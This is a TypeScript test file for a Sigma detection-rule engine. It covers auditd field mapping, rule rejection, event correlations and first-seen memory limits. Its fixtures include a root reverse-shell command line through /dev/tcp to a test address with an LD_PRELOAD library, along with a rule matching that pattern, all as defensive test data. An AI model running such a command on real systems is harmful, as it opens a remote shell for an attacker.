import { readFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { CORE_SCHEMA, load } from 'js-yaml'
import t from 'tap'
import { readSigma } from '../../../harness/sigma/documents.ts'
import { SigmaEngine, type SigmaMatch } from '../../../harness/sigma/engine.ts'
import { FirstSeen, mostRemembered } from '../../../harness/sigma/first-seen.ts'
import { readPipeline } from '../../../harness/sigma/pipeline.ts'

const root = join(dirname(fileURLToPath(import.meta.url)), '../../../..')
const audit = readPipeline(
  load(readFileSync(join(root, 'harness/sigma/pipelines/audit.yaml'), 'utf8'), { schema: CORE_SCHEMA }),
)
const plain = readPipeline({ name: 'plain', sources: [{ logsource: { product: 'test' }, unmapped: 'keep' }] })

function engineOf(text: string, pipeline = plain): SigmaEngine {
  const { rules, correlations, rejected } = readSigma([{ file: 'rules.yml', text }])
  if (rejected.length > 0) throw new Error(JSON.stringify(rejected))
  return new SigmaEngine({ rules, correlations, pipeline })
}

const told = (matches: readonly SigmaMatch[]) =>
  matches.map(({ rule, at, group }) => [rule.title, at, ...(group ? [group] : [])])

const exec = {
  ID: '1795489834.386:141754',
  SYSCALL: {
    SYSCALL: 'execve',
    success: 'yes',
    exe: '/usr/bin/bash',
    pid: 5,
    ppid: 4,
    uid: 0,
    UID: 'root',
    ARGV: ['0x7f', '0x0'],
    PPID: { exe: '/usr/bin/tar', ARGV: ['tar', 'xf'] },
  },
  EXECVE: { ARGV: ['bash', '-c', 'exec 3<>/dev/tcp/198.18.0.3/4444'], ENV: { LD_PRELOAD: '/tmp/x.so' } },
  CWD: { cwd: '/root' },
  PATH: [{ name: '/usr/bin/bash', nametype: 'NORMAL' }],
}
const connect = {
  SYSCALL: { SYSCALL: 'connect', success: 'yes', exe: '/usr/bin/bash', pid: 5, PID: { ARGV: ['bash', '-i'] } },
  SOCKADDR: [{ SADDR: { saddr_fam: 'inet', addr: '198.18.0.3', port: 4444 } }],
}

t.test('audit events have the fields that rules for Linux ask for', async (t) => {
  const engine = engineOf(
    `
title: Bash opens a socket by itself
logsource: { product: linux, category: process_creation }
detection:
  selection: { Image|endswith: /bash, CommandLine|contains: ' exec 3<>/dev/tcp/', ParentImage|endswith: /tar, ParentCommandLine: tar xf, User: root }
  condition: selection
---
title: Bash connects out
logsource: { product: linux, category: network_connection }
detection:
  selection: { Image|endswith: /bash, DestinationIp|cidr: 198.18.0.0/15, DestinationPort: 4444, Initiated: 'true', CommandLine: bash -i }
  condition: selection
---
title: Arguments in a record of their own
logsource: { product: linux, service: auditd }
detection:
  selection: { type: EXECVE, a0: bash, a1: -c }
  condition: selection
---
title: A system call has other arguments than its program
logsource: { product: linux, service: auditd }
detection:
  selection: { type: SYSCALL, a0: bash }
  condition: selection
---
title: Arguments of the system call
logsource: { product: linux, service: auditd }
detection:
  selection: { type: SYSCALL, SYSCALL: execve, a0: 7f }
  path: { type: PATH, name|startswith: /usr }
  condition: 1 of them
---
title: Address in a record of its own
logsource: { product: linux, service: auditd }
detection:
  selection: { type: SOCKADDR, port: 4444 }
  condition: selection
`,
    audit,
  )
  t.same(engine.rejected, [])
  t.same(told(engine.evaluate(exec, 1)), [
    ['Bash opens a socket by itself', 1],
    ['Arguments of the system call', 1],
    ['Arguments in a record of their own', 1],
  ])
  t.same(told(engine.evaluate(connect, 2)), [
    ['Bash connects out', 2],
    ['Address in a record of its own', 2],
  ])
  t.same(engine.evaluate({ SYSCALL: { SYSCALL: 'execve', success: 'no' } }, 3), [])
})

t.test('rules that the events cannot answer are rejected with the reason', async (t) => {
  const { rules, correlations } = readSigma([
    {
      file: 'a.yml',
      text: `
title: Of another system
id: one
logsource: { product: windows, category: process_creation }
detection: { selection: { Image: x }, condition: selection }
---
title: Of a field that is not there
id: two
logsource: { category: process_creation }
detection: { selection: { Image: x, Hashes|contains: y }, condition: selection }
---
title: Of a rule that was rejected
correlation: { type: event_count, rules: [two], group-by: [Image], timespan: 1m, condition: { gte: 2 } }
---
title: Of itself
name: itself
correlation: { type: temporal, rules: [itself], timespan: 1m }
`,
    },
  ])
  const { rejected, size } = new SigmaEngine({ rules, correlations, pipeline: audit })
  t.equal(size, 0)
  t.same(
    rejected.map(({ file, title, id, reason }) => `${file} ${title} ${id}: ${reason}`),
    [
      'a.yml#1 Of another system one: the pipeline "audit" has no events of product=windows category=process_creation',
      'a.yml#2 Of a field that is not there two: the pipeline "audit" has no field Hashes for category=process_creation',
      'a.yml#3 Of a rule that was rejected Of a rule that was rejected: it needs two, which is not there, was rejected or leads back to it',
      'a.yml#4 Of itself itself: it needs itself, which is not there, was rejected or leads back to it',
    ],
  )
})

const login = `
title: Failed login
name: failed
logsource: { product: test }
detection: { selection: { result: failed }, condition: selection }
---
title: Login
name: passed
logsource: { product: test }
detection: { selection: { result: passed }, condition: selection }
---
`
type Seen = [at: number, result: string, user: string, host?: string]

/** Correlation, events, and when it is to be told, for which user. */
const correlations: [name: string, correlation: string, events: Seen[], told: [at: number, user: string][]][] = [
  [
    'event_count within a window that slides',
    'type: event_count, rules: [failed], group-by: [user], timespan: 10s, condition: { gte: 3 }',
    [
      [0, 'failed', 'a'],
      [5, 'failed', 'a'],
      [6, 'failed', 'b'],
      [11, 'failed', 'a'],
      [12, 'failed', 'a'],
      [13, 'failed', 'a'],
    ],
    [[12, 'a']],
  ],
  [
    'event_count begins anew when it came together',
    'type: event_count, rules: [failed], group-by: [user], timespan: 10s, condition: { gt: 1 }',
    [
      [0, 'failed', 'a'],
      [1, 'failed', 'a'],
      [2, 'failed', 'a'],
      [3, 'failed', 'a'],
    ],
    [
      [1, 'a'],
      [3, 'a'],
    ],
  ],
  [
    'event_count with an upper bound is decided when its window is over',
    'type: event_count, rules: [failed], group-by: [user], timespan: 10s, condition: { gte: 2, lte: 3 }',
    [
      [0, 'failed', 'a'],
      [1, 'failed', 'a'],
      [0, 'failed', 'b'],
      [20, 'failed', 'c'],
      [21, 'failed', 'd'],
      [22, 'failed', 'd'],
      [23, 'failed', 'd'],
      [24, 'failed', 'd'],
    ],
    [[1, 'a']],
  ],
  [
    'event_count of exactly one, told at the end of the stream',
    'type: event_count, rules: [failed], group-by: [user], timespan: 10s, condition: { eq: 1 }',
    [[0, 'failed', 'a']],
    [[0, 'a']],
  ],
  [
    'value_count of different values',
    'type: value_count, rules: [failed], group-by: [user], timespan: 10s, condition: { field: host, gte: 2 }',
    [
      [0, 'failed', 'a', 'x'],
      [1, 'failed', 'a', 'x'],
      [2, 'failed', 'b', 'y'],
      [11, 'failed', 'a', 'y'],
      [20, 'failed', 'a', 'z'],
    ],
    [[11, 'a']],
  ],
  [
    'temporal in any order',
    'type: temporal, rules: [failed, passed], group-by: [user], timespan: 10s',
    [
      [0, 'passed', 'a'],
      [5, 'failed', 'b'],
      [9, 'failed', 'a'],
      [30, 'failed', 'a'],
      [41, 'passed', 'a'],
    ],
    [[9, 'a']],
  ],
  [
    'temporal_ordered in this order only',
    'type: temporal_ordered, rules: [failed, passed], group-by: [user], timespan: 10s',
    [
      [0, 'passed', 'a'],
      [1, 'failed', 'a'],
      [20, 'failed', 'b'],
      [25, 'passed', 'b'],
      [26, 'passed', 'b'],
    ],
    [[25, 'b']],
  ],
  [
    'one of the rules is enough where the condition says so',
    'type: temporal, rules: [failed, passed], group-by: [user], timespan: 10s, condition: { gte: 1 }',
    [[0, 'passed', 'a']],
    [[0, 'a']],
  ],
  [
    'an alias stands for another field in each rule',
    'type: temporal, rules: [failed, passed], group-by: [who], timespan: 10s, aliases: { who: { failed: user, passed: host } }',
    [
      [0, 'failed', 'a', 'x'],
      [1, 'passed', 'b', 'a'],
    ],
    [[1, 'a']],
  ],
  [
    'events without the field to group by do not count',
    'type: event_count, rules: [failed], group-by: [missing], timespan: 10s, condition: { gte: 1 }',
    [[0, 'failed', 'a']],
    [],
  ],
]

for (const [name, correlation, events, expected] of correlations) {
  t.test(name, async (t) => {
    const engine = engineOf(`${login}title: Correlated\ncorrelation: { ${correlation} }`)
    t.same(engine.rejected, [])
    const found = events.flatMap(([at, result, user, host]) => engine.evaluate({ result, user, host }, at * 1000))
    const all = [...found, ...engine.end()]
    t.same(
      all.map(({ at, group }) => [at / 1000, Object.values(group ?? {})[0]]),
      expected,
    )
    t.ok(
      all.every(({ rule }) => rule.title === 'Correlated'),
      'its rules are not told apart from it',
    )
  })
}

t.test('rules of a correlation that generates are told too; correlations may build on correlations', async (t) => {
  const engine = engineOf(`${login}
title: Many
name: many
correlation: { type: event_count, rules: [failed], group-by: [user], timespan: 10s, condition: { gte: 2 }, generate: true }
---
title: Many, then in
correlation: { type: temporal_ordered, rules: [many, passed], group-by: [user], timespan: 10s }
`)
  const found = [
    ...engine.evaluate({ result: 'failed', user: 'a' }, 0),
    ...engine.evaluate({ result: 'failed', user: 'a' }, 1),
    ...engine.evaluate({ result: 'passed', user: 'a' }, 2),
  ]
  t.same(told(found), [
    ['Failed login', 0],
    ['Failed login', 1],
    ['Many, then in', 2, { user: 'a' }],
  ])
})

t.test('a long stream of ever new groups is forgotten as it goes', async (t) => {
  const engine = engineOf(
    `${login}title: Many\ncorrelation: { type: event_count, rules: [failed], group-by: [user], timespan: 1m, condition: { gte: 3 } }`,
  )
  for (let round = 0; round < 300_000; round++) engine.evaluate({ result: 'failed', user: `u${round}` }, round * 10)
  t.equal(engine.dropped, 0, 'a minute holds six thousand')
  for (let round = 0; round < 150_000; round++) engine.evaluate({ result: 'failed', user: `v${round}` }, 3_000_000)
  t.ok(engine.dropped > 0, 'more at once than there is room for is told')
})

t.test('a rule that remembers tells a combination of values once, and others each time', async (t) => {
  const text = `title: New
logsource: { product: test }
detection: { selection: { port: 5432 }, condition: selection }
tocsin-first-seen: [host, program]
---
title: Each
logsource: { product: test }
detection: { selection: { port: 5432 }, condition: selection }
`
  const engine = engineOf(text)
  const asks = (host: string, program?: string, port = 5432) =>
    engine.evaluate({ host, port, ...(program && { program }) }, 1).map(({ rule }) => rule.title)
  t.same(asks('a', 'curl'), ['New', 'Each'])
  t.same(asks('a', 'curl'), ['Each'])
  t.same(asks('a', 'wget', 80), [], 'what the rule is not about is not learnt')
  t.same(asks('a', 'wget'), ['New', 'Each'])
  t.same(asks('b', 'curl'), ['New', 'Each'], 'known at one host is not known at another')
  t.same(asks('a', 'curl'), ['Each'], 'and stays known')
  t.same(asks('a'), ['Each'], 'without one of the values nothing can be new')
  t.equal(engine.dropped, 0)
})

t.test('values that are remembered have a limit: the longest unseen is forgotten, and counted', async (t) => {
  const seen = new FirstSeen(['value'])
  const isNew = (value: number) => seen.isNew(() => value)
  for (let value = 0; value < mostRemembered; value++) isNew(value)
  t.equal(isNew(0), false)
  t.equal(isNew(mostRemembered), true)
  t.equal(seen.dropped, 1)
  t.equal(isNew(0), false, 'it was seen again, so another one went')
  t.equal(isNew(1), true)
})

t.test('a rule that remembers a field which the events do not have is of no use', async (t) => {
  const { rules } = readSigma([
    {
      file: 'rules.yml',
      text: `title: New
logsource: { product: linux, category: process_creation }
detection: { selection: { Image: /bin/sh }, condition: selection }
tocsin-first-seen: [Hashes]
`,
    },
  ])
  const { rejected } = new SigmaEngine({ rules, pipeline: audit })
  t.match(rejected, [{ reason: /has no field Hashes/ }])
})
